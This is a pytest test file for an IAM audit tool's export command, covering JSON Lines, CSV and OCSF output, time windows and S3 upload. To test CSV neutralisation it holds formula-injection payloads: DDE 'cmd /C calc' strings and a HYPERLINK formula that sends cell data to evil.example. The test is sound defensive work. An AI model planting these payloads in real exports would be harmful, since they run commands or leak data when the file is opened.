"""``iamwatch export``: scan ``examples/`` into an audit trail, then export it as JSON Lines,
CSV and OCSF, re-read and compare; hostile event data in CSV; windows; S3 on a moto server."""

from __future__ import annotations

import copy
import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import boto3
import orjson
import pytest

from detectors import REGISTRY
from iamwatch.audit import SQLiteAuditLog, finding_raised
from iamwatch.export import ExportedFinding
from iamwatch.export.csv import COLUMNS, FORMULA_PREFIXES, neutralise
from iamwatch.export.ocsf import attacks, problems, to_ocsf
from iamwatch.finding import Finding
from tests.conftest import EXAMPLES_DIR, base_record, run_iamwatch, run_records

WIDE = ("--since", "2000-01-01", "--until", "2100-01-01")
SEVERITY_IDS = {"info": 1, "low": 2, "medium": 3, "high": 4, "critical": 5}


iamwatch = run_iamwatch


def jsonl(data: bytes) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in data.splitlines() if line.strip()]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


class Scanned:
    def __init__(self, home: Path, audit: Path, findings: list[dict[str, Any]]) -> None:
        self.home = home
        self.audit = audit
        self.findings = findings

    @property
    def ids(self) -> set[str]:
        return {f["finding_id"] for f in self.findings}

    def export(self, *args: str, env: dict[str, str] | None = None) -> bytes:
        result = iamwatch(
            "export", "--audit", str(self.audit), *WIDE, *args, home=self.home, env=env
        )
        assert result.returncode == 0, result.stderr.decode()
        return result.stdout


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> Scanned:
    home = tmp_path_factory.mktemp("export")
    audit = home / "audit.db"
    result = iamwatch(
        "scan", str(EXAMPLES_DIR), "--format", "jsonl", "--audit", str(audit), home=home
    )
    assert result.returncode == 0, result.stderr.decode()
    findings = jsonl(result.stdout)
    assert findings
    return Scanned(home, audit, findings)


def test_jsonl_export_has_the_scan_fields_and_delivery_status(scanned: Scanned) -> None:
    exported = jsonl(scanned.export("--format", "jsonl"))
    # Ordered by event time then finding id, so exports diff cleanly.
    order = [(datetime.fromisoformat(e["event_time"]), e["finding_id"]) for e in exported]
    assert order == sorted(order)
    assert {e["finding_id"] for e in exported} == scanned.ids
    assert len(exported) == len(scanned.findings)
    by_id = {e["finding_id"]: e for e in exported}
    for finding in scanned.findings:
        row = by_id[finding["finding_id"]]
        assert {k: row[k] for k in finding} == finding
        assert row["delivery_status"] == "not-sent"
        assert row["raised_at"]
    # Re-importable: every line rebuilds the finding (a field left out when absent, such as a
    # backfill run, is left out).
    rebuilt = [
        Finding.model_validate({k: e[k] for k in Finding.model_fields if k in e}) for e in exported
    ]
    assert {f.finding_id for f in rebuilt} == scanned.ids


def test_exports_of_the_same_window_are_identical(scanned: Scanned) -> None:
    for export_format in ("jsonl", "csv"):
        assert scanned.export("--format", export_format) == scanned.export(
            "--format", export_format
        )


def test_every_ocsf_event_is_a_valid_detection_finding(scanned: Scanned) -> None:
    events = jsonl(scanned.export("--format", "ocsf"))
    assert {e["finding_info"]["uid"] for e in events} == scanned.ids
    by_id = {f["finding_id"]: f for f in scanned.findings}
    for event in events:
        assert problems(event) == []
        finding = by_id[event["finding_info"]["uid"]]
        assert event["class_uid"] == 2004
        assert event["category_uid"] == 2
        assert event["type_uid"] == 200401
        assert event["severity_id"] == SEVERITY_IDS[finding["severity"]]
        assert event["finding_info"]["title"] == finding["title"]
        assert event["finding_info"]["desc"] == finding["summary"]
        assert event["finding_info"]["types"] == [finding["detector"]]
        declared = REGISTRY.get(finding["detector"]).meta.attack_techniques
        exported = [
            a.get("sub_technique", a["technique"])["uid"] for a in event["finding_info"]["attacks"]
        ]
        assert exported == list(declared)
        event_time = datetime.fromisoformat(finding["event_time"])
        assert event["time"] == int(event_time.timestamp() * 1000)
        product = event["metadata"]["product"]
        assert (product["name"], product["vendor_name"]) == ("iamwatch", "iamwatch")
        assert product["version"]
        assert event["cloud"]["account"]["uid"] == finding["account"]
        assert event["cloud"]["region"] == finding["region"]
        (evidence,) = event["evidences"]
        user = evidence["actor"]["user"]
        assert (user["uid"], user["name"]) == (finding["actor"], finding["actor_name"])
        if finding["source_ip"] and finding["source_ip"][0].isdigit():
            assert evidence["src_endpoint"]["ip"] == finding["source_ip"]
        if finding["target"]:
            assert event["resources"][0]["uid"] == finding["target"]
        assert finding["next_step"] in event["remediation"]["desc"]
        assert event["remediation"]["references"] == [finding["runbook_url"]]
        assert event["status_id"] == 1


def test_ocsf_attacks_carry_the_declared_techniques_and_their_tactic() -> None:
    meta = REGISTRY.get("console-login-failures").meta
    assert meta.asff_type == "TTPs/Credential Access"
    assert attacks(meta.id) == [
        {
            "technique": {"uid": "T1110", "src_url": "https://attack.mitre.org/techniques/T1110/"},
            "sub_technique": {
                "uid": technique,
                "src_url": f"https://attack.mitre.org/techniques/T1110/{technique[-3:]}/",
            },
            "tactic": {"uid": "TA0006", "name": "Credential Access"},
        }
        for technique in meta.attack_techniques
    ]
    # A best-practice finding type names no tactic; an unknown detector has no attacks.
    assert all("tactic" not in a for a in attacks("root-account-used"))
    assert attacks("no-such-detector") == []


def test_the_ocsf_check_rejects_a_wrong_event() -> None:
    finding = run_records([base_record()])[0]
    event = to_ocsf(ExportedFinding(finding, datetime.now(UTC)))
    assert problems(event) == []
    broken = copy.deepcopy(event)
    broken["severity_id"] = 42
    broken["finding_info"]["surprise"] = "x"
    del broken["metadata"]
    found = " ".join(problems(broken))
    assert "severity_id" in found
    assert "surprise" in found
    assert "metadata" in found


def test_suppressed_findings_have_the_ocsf_suppressed_status() -> None:
    finding = run_records([base_record()])[0]
    event = to_ocsf(ExportedFinding(finding, datetime.now(UTC), delivery_status="suppressed"))
    assert (event["status_id"], event["status"]) == (3, "Suppressed")
    assert problems(event) == []


def test_csv_export_opens_as_a_table_with_every_finding(scanned: Scanned) -> None:
    data = scanned.export("--format", "csv")
    assert data.startswith("\ufeff".encode())
    assert b"\r\n" in data
    rows = csv_rows(data)
    assert list(rows[0]) == list(COLUMNS)
    assert {r["finding_id"] for r in rows} == scanned.ids
    by_id = {f["finding_id"]: f for f in scanned.findings}
    for row in rows:
        finding = by_id[row["finding_id"]]
        assert row["summary"] == neutralise(finding["summary"])
        assert row["user_agent"] == neutralise(finding["user_agent"] or "")
    no_bom = scanned.export("--format", "csv", "--no-bom")
    assert not no_bom.startswith("\ufeff".encode())
    assert csv_rows(no_bom) == rows


HOSTILE = {
    "target": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "actor": "+cmd|' /C calc'!A0",
    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "policy": "-2+3+cmd|' /C calc'!A0",
}


def test_csv_neutralises_formula_injection_from_event_data(tmp_path: Path) -> None:
    record = base_record("iam-user-created")
    record["requestParameters"]["userName"] = HOSTILE["target"]
    record["userIdentity"]["userName"] = HOSTILE["actor"]
    record["userIdentity"]["arn"] = "\tarn:aws:iam::123456789012:user/x"
    record["userAgent"] = HOSTILE["user_agent"]
    record["requestParameters"]["path"] = HOSTILE["policy"]
    tab = base_record("iam-user-created")
    tab["eventID"] = str(uuid.uuid4())
    tab["requestParameters"]["userName"] = "\r=1+1"
    logs = tmp_path / "hostile.json"
    logs.write_bytes(orjson.dumps({"Records": [record, tab]}))
    audit = tmp_path / "audit.db"
    scan = iamwatch("scan", str(logs), "--format", "jsonl", "--audit", str(audit), home=tmp_path)
    assert scan.returncode == 0, scan.stderr.decode()
    assert len(jsonl(scan.stdout)) == 2

    result = iamwatch("export", "--audit", str(audit), *WIDE, "--format", "csv", home=tmp_path)
    assert result.returncode == 0, result.stderr.decode()
    rows = csv_rows(result.stdout)
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
    hostile = next(r for r in rows if r["target"].startswith("'="))
    assert hostile["target"] == "'" + HOSTILE["target"]
    assert hostile["user_agent"] == "'" + HOSTILE["user_agent"]
    assert hostile["actor"] == "'\tarn:aws:iam::123456789012:user/x"
    assert hostile["actor_name"] == "'" + HOSTILE["actor"]
    other = next(r for r in rows if r is not hostile)
    # The carriage return could also start a new row: the formula after it is quoted too.
    assert other["target"] == "'\r'=1+1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        ("Mozilla/5.0;=cmd|' /C calc'!A0", "Mozilla/5.0;'=cmd|' /C calc'!A0"),
        ("x, @SUM(A1)", "x, '@SUM(A1)"),
    ],
)
def test_neutralise(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_the_raised_window_is_on_when_findings_were_raised(tmp_path: Path) -> None:
    findings = run_records([base_record(d) for d in ("iam-user-created", "root-account-used")])
    assert len(findings) >= 2
    first, second = findings[0], findings[1]
    audit = tmp_path / "audit.db"
    log = SQLiteAuditLog(audit)
    day = datetime(2026, 11, 3, tzinfo=UTC)
    log.append(finding_raised(first).model_copy(update={"at": day + timedelta(hours=1)}))
    log.append(finding_raised(second).model_copy(update={"at": day + timedelta(hours=5)}))
    log.close()

    def ids(*window: str) -> list[str]:
        result = iamwatch(
            "export", "--audit", str(audit), "--format", "jsonl", *window, home=tmp_path
        )
        assert result.returncode == 0, result.stderr.decode()
        return [e["finding_id"] for e in jsonl(result.stdout)]

    everything = ids("--raised-since", "2026-11-03", "--raised-until", "2026-11-04")
    assert set(everything) == {first.finding_id, second.finding_id}
    assert ids(
        "--raised-since", "2026-11-03T00:00:00Z", "--raised-until", "2026-11-03T02:00:00Z"
    ) == [first.finding_id]
    # --raised-until is exclusive, --raised-since inclusive; an offset is converted to UTC.
    assert ids(
        "--raised-since", "2026-11-03T01:00:00+00:00", "--raised-until", "2026-11-03T05:00:00Z"
    ) == [first.finding_id]
    assert ids(
        "--raised-since", "2026-11-03T06:00:00+01:00", "--raised-until", "2026-11-03T09:00:00+01:00"
    ) == [second.finding_id]


def test_the_window_is_on_when_events_happened_whenever_they_were_raised(
    tmp_path: Path,
) -> None:
    """A scan of last month's archive raises its findings today; an export of last month finds
    them (the README's example after make demo)."""
    findings = run_records([base_record(d) for d in ("iam-user-created", "root-account-used")])
    first, second = findings[0], findings[1]
    audit = tmp_path / "audit.db"
    log = SQLiteAuditLog(audit)
    now = datetime.now(UTC)
    for finding, hours in ((first, 1), (second, 30)):
        moved = finding.model_copy(
            update={"event_time": datetime(2026, 11, 3, tzinfo=UTC) + timedelta(hours=hours)}
        )
        log.append(finding_raised(moved).model_copy(update={"at": now}))
    log.close()

    def ids(*window: str) -> list[str]:
        result = iamwatch("export", "--audit", str(audit), *window, home=tmp_path)
        assert result.returncode == 0, result.stderr.decode()
        return [e["finding_id"] for e in jsonl(result.stdout)]

    assert ids("--since", "2026-11-03", "--until", "2026-11-04") == [first.finding_id]
    assert ids("--since", "2026-11-04", "--until", "2026-11-05") == [second.finding_id]
    assert ids() == [], "the default window is the last 24 hours of events"
    assert sorted(ids("--raised-since", (now - timedelta(minutes=1)).isoformat())) == sorted(
        [first.finding_id, second.finding_id]
    )
    both = iamwatch(
        "export", "--audit", str(audit), "--since", "2026-11-03", "--raised-since", "2026-11-03"
    )
    assert both.returncode == 2 and b"not both" in both.stderr


def test_an_empty_window_exports_nothing_and_succeeds(scanned: Scanned) -> None:
    window = ("--since", "2001-01-01", "--until", "2001-01-02")
    for export_format, expected in (("jsonl", b""), ("ocsf", b"")):
        result = iamwatch(
            "export",
            "--audit",
            str(scanned.audit),
            *window,
            "--format",
            export_format,
            home=scanned.home,
        )
        assert result.returncode == 0, result.stderr.decode()
        assert result.stdout == expected
        assert b"Exported 0 finding(s)" in result.stderr
    result = iamwatch(
        "export", "--audit", str(scanned.audit), *window, "--format", "csv", home=scanned.home
    )
    assert result.returncode == 0
    assert csv_rows(result.stdout) == []
    assert result.stdout.decode("utf-8-sig").startswith("finding_id,")


def test_export_to_a_file(scanned: Scanned, tmp_path: Path) -> None:
    target = tmp_path / "out" / "findings.jsonl"
    assert scanned.export("--format", "ocsf", "--output", str(target)) == b""
    assert {e["finding_info"]["uid"] for e in jsonl(target.read_bytes())} == scanned.ids


def test_export_to_s3(scanned: Scanned, aws_env: dict[str, str]) -> None:
    s3 = boto3.client("s3", endpoint_url=aws_env["AWS_ENDPOINT_URL"])
    bucket = f"exports-{uuid.uuid4().hex[:8]}"
    s3.create_bucket(Bucket=bucket)
    env = {k: v for k, v in aws_env.items() if k.startswith("AWS_")}
    result = iamwatch(
        "export",
        "--audit",
        str(scanned.audit),
        "--since",
        "2000-01-01",
        "--until",
        "2100-01-01",
        "--format",
        "ocsf",
        "--output",
        f"s3://{bucket}/iamwatch/daily",
        home=scanned.home,
        env=env,
    )
    assert result.returncode == 0, result.stderr.decode()
    (item,) = s3.list_objects_v2(Bucket=bucket)["Contents"]
    key = item["Key"]
    assert key == "iamwatch/daily/iamwatch-findings-20000101T000000Z-21000101T000000Z.ocsf.jsonl"
    assert f"s3://{bucket}/{key}" in result.stderr.decode()
    body = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
    events = jsonl(body)
    assert {e["finding_info"]["uid"] for e in events} == scanned.ids
    assert all(problems(e) == [] for e in events)


def test_an_unwritable_s3_destination_exits_5(scanned: Scanned, aws_env: dict[str, str]) -> None:
    env = {k: v for k, v in aws_env.items() if k.startswith("AWS_")}
    result = iamwatch(
        "export",
        "--audit",
        str(scanned.audit),
        *WIDE,
        "--output",
        f"s3://missing-{uuid.uuid4().hex[:8]}/x",
        home=scanned.home,
        env=env,
    )
    assert result.returncode == 5
    assert b"NoSuchBucket" in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ("--since", "2026-11-04", "--until", "2026-11-03"),
        ("--since", "yesterday"),
        ("--format", "xml"),
    ],
)
def test_bad_options_are_usage_errors(scanned: Scanned, args: tuple[str, ...]) -> None:
    result = iamwatch("export", "--audit", str(scanned.audit), *args, home=scanned.home)
    assert result.returncode == 2


def test_a_missing_audit_trail_is_a_usage_error(tmp_path: Path) -> None:
    result = iamwatch("export", "--audit", str(tmp_path / "none.db"), home=tmp_path)
    assert result.returncode == 2
    assert b"no audit trail" in result.stderr
    assert not (tmp_path / "none.db").exists()


def test_export_reports_the_latest_delivery_outcome(tmp_path: Path) -> None:
    from iamwatch.audit import AuditKind, AuditRecord

    finding = run_records([base_record()])[0]
    audit = tmp_path / "audit.db"
    log = SQLiteAuditLog(audit)
    now = datetime.now(UTC) - timedelta(minutes=5)
    log.append(finding_raised(finding).model_copy(update={"at": now}))
    failed = AuditRecord.about(
        AuditKind.DELIVERY_FAILED, finding, outcome="failed", channel="#c", reason="ratelimited"
    )
    posted = AuditRecord.about(
        AuditKind.DELIVERY_ATTEMPTED, finding, outcome="posted", channel="#c", ts="1.2"
    )
    log.append(failed.model_copy(update={"at": now + timedelta(seconds=1)}))
    log.append(posted.model_copy(update={"at": now + timedelta(seconds=2)}))
    log.close()
    result = iamwatch(
        "export", "--audit", str(audit), "--format", "csv", "--raised-since",
        (now - timedelta(minutes=1)).isoformat(), home=tmp_path,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr.decode()
    (row,) = csv_rows(result.stdout)
    assert (row["delivery_status"], row["delivery_channel"]) == ("posted", "#c")
